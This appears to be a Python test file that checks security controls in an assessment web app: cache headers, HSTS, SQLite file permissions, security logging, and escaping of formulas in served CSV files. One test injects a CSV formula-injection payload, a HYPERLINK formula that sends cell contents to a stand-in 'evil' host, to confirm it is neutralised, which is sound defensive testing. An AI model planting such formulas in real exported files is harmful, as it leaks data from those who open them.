"""F16-F19: private pages are not stored by browsers, HSTS over HTTPS, formulas neutralised in
served cohort files, a private SQLite file, and security events in the log."""

from __future__ import annotations

import logging
import stat

from assessment.persistence import make_engine
from tests.support.csrf import signed_up, token_on
from tests.support.journeys import make_workshop, sign_up, start, upload
from tests.support.reports import FLAGSHIP, peers_csv


def test_signed_in_pages_and_exports_are_never_stored(journey_app):
    consultant = journey_app.test_client()
    make_workshop(journey_app, consultant)
    for path in (
        "/workspaces/",
        "/workspaces/1/workshops/1/",
        "/workspaces/1/workshops/1/answers.csv",
        "/workspaces/1/workshops/1/answers.json",
    ):
        response = consultant.get(path)
        assert response.status_code == 200, path
        assert "no-store" in response.headers.get("Cache-Control", ""), path


def test_a_respondents_pages_are_never_stored_but_the_landing_page_may_be(journey_app):
    visitor = journey_app.test_client()
    assert "no-store" not in visitor.get("/").headers.get("Cache-Control", "")
    start(visitor, questionnaire="quick-check")
    assert visitor.get("/assessment/review").headers["Cache-Control"] == "no-store"


def test_hsts_only_over_https(journey_app):
    client = journey_app.test_client()
    assert "Strict-Transport-Security" not in client.get("/").headers
    secure = client.get("/", base_url="https://assess.example.com")
    assert secure.headers["Strict-Transport-Security"] == "max-age=31536000"


def test_a_served_cohort_file_never_runs_a_formula(journey_app):
    consultant = journey_app.test_client()
    sign_up(consultant)
    text = peers_csv(FLAGSHIP, 3).replace("client-1", '=HYPERLINK("http://evil/?"&A1;"x")')
    text = text.replace("client-2", "@SUM(1)")
    assert upload(consultant, text).status_code == 200
    served = consultant.get("/workspaces/1/cohorts/1/results.csv").get_data(as_text=True)
    assert "'=HYPERLINK" in served and "'@SUM(1)" in served
    assert "\n=" not in served and ",=" not in served and "\n@" not in served


def test_a_new_sqlite_database_is_readable_by_its_owner_only(tmp_path):
    path = tmp_path / "private.db"
    engine = make_engine(f"sqlite:///{path}")
    try:
        with engine.begin() as connection:
            connection.exec_driver_sql("CREATE TABLE t (x)")
            connection.exec_driver_sql("INSERT INTO t VALUES (1)")
            for suffix in ("", "-wal", "-shm"):
                mode = stat.S_IMODE((tmp_path / f"private.db{suffix}").stat().st_mode)
                assert mode == 0o600, (suffix, oct(mode))
    finally:
        engine.dispose()


def test_failed_sign_ins_lockouts_csrf_failures_and_foreign_ids_are_logged(csrf_app, caplog):
    caplog.set_level(logging.WARNING, logger="assessment.security")
    consultant = signed_up(csrf_app)
    assert consultant.get("/workspaces/99/").status_code == 404
    assert consultant.post("/workspaces/1/clients", data={"name": "No token"}).status_code == 400
    stranger = csrf_app.test_client()
    for _ in range(11):
        data = {
            "email": "ada@example.com",
            "password": "wrong guess",
            "csrf_token": token_on(stranger, "/account/login"),
        }
        stranger.post("/account/login", data=data)
    lines = caplog.text.splitlines()
    assert any(
        "workspace 99 refused on GET '/workspaces/99/' account 1 from 127.0.0.1" in line for line in lines
    )
    assert any("CSRF check failed" in line and "POST '/workspaces/1/clients'" in line for line in lines)
    assert sum("failed sign-in for 'ada@example.com' from 127.0.0.1" in line for line in lines) == 10
    assert any("too many attempts (429) on POST '/account/login'" in line for line in lines)
